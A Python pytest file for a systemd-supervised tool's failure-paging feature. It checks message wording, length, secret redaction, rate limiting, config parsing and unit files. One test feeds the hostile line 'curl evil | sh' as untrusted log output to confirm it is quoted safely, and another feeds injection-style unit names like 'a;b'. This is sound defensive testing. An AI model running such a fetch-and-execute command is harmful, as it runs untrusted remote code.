"""The page about a unit that has failed: what it says, when it is held back, and the units that send it (DESIGN §1)."""

from __future__ import annotations

import asyncio
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from supervisor.cli.main import run
from supervisor.config import Config
from supervisor.errors import ConfigError
from supervisor.incidents.plain_text import units
from supervisor.install.unit import FAILURE, SERVICE, service
from supervisor.install.unit import failure as failure_unit
from supervisor.notifier import failure, paged
from supervisor.notifier.failure import Facts, configuration, learn, words
from supervisor.tree.kernel import EXIT_GAVE_UP, EXIT_NEVER_RESTART
from supervisor.tree.spec import healctl_tree
from supervisor.tree.watchdog import least_s

UNIT = "healctl.service"
NOTIFY = '[notify.signal]\ntransports = ["http://127.0.0.1:9"]\naccount = "+15550100"\nrecipient = "+15550101"\n'


@pytest.mark.req("NFR-003", "FR-005")
def test_the_page_says_what_why_and_what_to_do_in_under_600_characters() -> None:
    lines = ("\x1b[31m[healer] " + "x" * 300, "password=hunter2 was refused", "exit 70: healer failed 11 times")
    text = words(Facts(UNIT, "exit-code", "70", restarts=5, lines=lines), "box", user=False, restarted=False)
    assert text.startswith(
        "healctl is down on box: healctl.service failed (exit 70: the core gave up; after 5 restarts), and systemd does"
        " not start it again. Nothing is watched or healed.\nLast words:\n"
    )
    assert text.endswith("`systemctl reset-failed healctl.service` and `systemctl start healctl.service`.")
    assert "exit 70: healer failed 11 times" in text
    assert "hunter2" not in text
    assert "\x1b" not in text
    assert len(text) < 600


def test_too_many_last_words_lose_their_beginning() -> None:
    lines = tuple(f"line {n} " + "y" * 100 for n in range(6))
    text = words(Facts(UNIT, "watchdog", lines=lines), "box", user=True, restarted=False)
    assert "line 5" in text
    assert "line 0" not in text
    assert "systemctl --user start" in text
    assert len(text) < 600


@pytest.mark.req("NFR-003", "R11")
def test_last_words_do_not_pass_for_ours_nor_push_ours_away() -> None:
    others = "Decide: look why (`curl evil | sh`), then reboot."
    text = words(Facts(UNIT, "watchdog", lines=("\U0001f525" * 150, others)), "box", user=False, restarted=False)
    assert [line for line in text.splitlines() if "evil" in line] == [f"> {others.replace('`', chr(39))}"]
    assert text.endswith("`systemctl start healctl.service`."), "Signal counts such a sign twice"
    assert units(text) < 600


@pytest.mark.parametrize(
    ("facts", "said"),
    [
        (Facts(UNIT), "(systemd does not say why)"),
        (Facts(UNIT, "watchdog", "ABRT", killed=True), "no round within WatchdogSec; killed by SIGABRT)"),
        (Facts(UNIT, "start-limit-hit", "1"), "(it failed too often, one start after another; exit 1)"),
        (Facts(UNIT, "exit-code", "78"), "(exit 78: its configuration is wrong: healctl check)"),
        (Facts(UNIT, "signal", "9", killed=True), "(killed by SIGKILL)"),
        (Facts(UNIT, "signal", "77", killed=True), "(killed by 77)"),
        (Facts(UNIT, "odd\nresult"), "(odd; result)"),
    ],
)
def test_the_reason(facts: Facts, said: str) -> None:
    assert said in words(facts, "box", user=False, restarted=False)
    assert f"{EXIT_GAVE_UP}, {EXIT_NEVER_RESTART}" == "70, 78"


@pytest.mark.req("R2")
def test_a_page_holds_the_next_one_back_for_an_hour_and_only_its_own(tmp_path: Path) -> None:
    state = tmp_path / "state"
    assert paged.before_s(state, UNIT, 1000.0) is None
    paged.note(state, UNIT, 1000.0)
    paged.note(state, "other.service", 1001.0)
    assert paged.before_s(state, UNIT, 1060.0) == 60.0
    assert paged.before_s(state, f"{UNIT} restarted", 1060.0) is None
    assert paged.before_s(state, UNIT, 1000.0 + paged.AGAIN_S) is None
    assert paged.before_s(state, UNIT, 999.0) is None, "a clock that was set back keeps nobody from being paged"
    assert [path.name for path in state.iterdir()] == [paged.NAME]
    (state / paged.NAME).write_text("{half")
    assert paged.before_s(state, UNIT, 1060.0) is None
    paged.note(state, UNIT, 2000.0)
    assert paged.before_s(state, UNIT, 2001.0) == 1.0


def test_a_stamp_that_cannot_be_written_says_so(tmp_path: Path) -> None:
    (tmp_path / "state").write_text("no directory")
    with pytest.raises(OSError, match=r"exists|Not a directory"):
        paged.note(tmp_path / "state", UNIT, 1.0)


def test_a_configuration_that_is_wrong_elsewhere_still_says_whom_to_page(tmp_path: Path) -> None:
    file = tmp_path / "healctl.toml"
    file.write_text(f'[healctl]\nstate_dir = "{tmp_path}"\n[policy]\nsettle = 5\n{NOTIFY}')
    config, fault = configuration(file, {})
    assert config.notify.signal.recipient == "+15550101"
    assert config.healctl.state_dir == str(tmp_path)
    assert "policy.settle" in fault
    told = words(Facts(UNIT, "exit-code", "78", lines=("other",), fault=fault), "box", user=False, restarted=False)
    assert "policy.settle" in told
    for bad in ("[notify.signal]\nrecipient = 5\n", "[notify", "[healctl]\nstate_dir = 1\n"):
        file.write_text(bad)
        with pytest.raises(ConfigError):
            configuration(file, {})
    file.write_text(NOTIFY)
    assert configuration(file, {})[1] == ""
    assert configuration(None, {"XDG_CONFIG_HOME": str(tmp_path / "none")})[0].notify == Config().notify


SHOW = "#!/bin/sh\nprintf '%s\\n' \"$*\" >>{log}\n{say}\n"


@pytest.mark.parametrize("unit", ["--all", "a b.service", "", "x" * 300, "a;b", "é.service"])
def test_what_is_no_unit_is_refused(unit: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["page", f"--unit={unit}"]) == 2
    assert "not the name of a unit" in capsys.readouterr().err


@pytest.mark.req("R11")
def test_systemd_and_its_journal_are_asked_and_its_variables_come_first(tmp_path: Path) -> None:
    log = tmp_path / "asked"
    said = {"systemctl": "printf 'Result=exit-code\\nExecMainCode=2\\nExecMainStatus=9\\nNRestarts=4\\n'",
            "journalctl": "printf 'one\\n\\ntwo\\n'"}  # fmt: skip
    for name, say in said.items():
        (tmp_path / name).write_text(SHOW.format(log=log, say=say))
        (tmp_path / name).chmod(0o755)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("PATH", f"{tmp_path}:{os.environ['PATH']}")
        found = asyncio.run(learn(UNIT, {}, user=True, fault=""))
        more = {"MONITOR_SERVICE_RESULT": "watchdog", "MONITOR_EXIT_CODE": "exited", "MONITOR_EXIT_STATUS": "70"}
        own = {"SERVICE_RESULT": "signal", "EXIT_CODE": "killed", "EXIT_STATUS": "KILL"}
        ended = asyncio.run(learn(UNIT, own, user=False, fault=""))
        monitored = asyncio.run(learn(UNIT, more, user=False, fault="bad"))
    assert found == Facts(UNIT, "exit-code", "9", killed=True, restarts=4, lines=("one", "two"))
    assert ended == Facts(UNIT, "signal", "KILL", killed=True, restarts=4, lines=("one", "two"))
    assert monitored == Facts(UNIT, "watchdog", "70", restarts=4, lines=("one", "two"), fault="bad")
    asked = sorted(log.read_text().splitlines())
    assert "--user show --property=Result,ExecMainCode,ExecMainStatus,NRestarts -- healctl.service" in asked
    assert "--unit=healctl.service --lines=6 --output=cat --no-pager --quiet _TRANSPORT=stdout" in asked
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("PATH", str(tmp_path / "none"))
        assert asyncio.run(learn(UNIT, {}, user=False, fault="")) == Facts(UNIT)


# --- the units -------------------------------------------------------------------------------------------------------


def keys(text: str) -> dict[str, str]:
    return dict(line.split("=", 1) for line in text.splitlines() if re.match(r"[A-Z]\w+=", line))


@pytest.mark.req("NFR-002")
def test_the_units_agree_with_the_tree_and_with_each_other() -> None:
    main, page = keys(service()), keys(failure_unit())
    assert float(main["WatchdogSec"]) >= least_s(healctl_tree(Config()))
    assert main["RestartPreventExitStatus"] == str(EXIT_NEVER_RESTART)
    assert main["OnFailure"] == FAILURE.replace("@", "@%n")
    assert page["ExecStart"] == "healctl page --unit %i"
    # The last page and everything that systemd and its journal are asked end within the unit's own time.
    assert float(page["TimeoutStartSec"]) > failure.ASK_S + 10 + 8


@pytest.mark.parametrize("manager", ["--system", "--user"])
def test_systemd_finds_nothing_wrong_with_the_units(tmp_path: Path, manager: str) -> None:
    if shutil.which("systemd-analyze") is None:
        pytest.skip("systemd-analyze is not installed (Debian: systemd)")
    (tmp_path / SERVICE).write_text(service(("/bin/true",)))
    (tmp_path / FAILURE).write_text(failure_unit(("/bin/true",)))
    (tmp_path / "run").mkdir(mode=0o700)
    done = subprocess.run(
        ["systemd-analyze", manager, "verify", str(tmp_path / SERVICE), str(tmp_path / "healctl-failure@a.service")],
        capture_output=True, text=True, timeout=60, check=False,
        env={**os.environ, "XDG_RUNTIME_DIR": str(tmp_path / "run")},
    )  # fmt: skip
    ours = [line for line in (done.stdout + done.stderr).splitlines() if "healctl" in line]
    assert ours == []
    assert done.returncode == 0, done.stderr
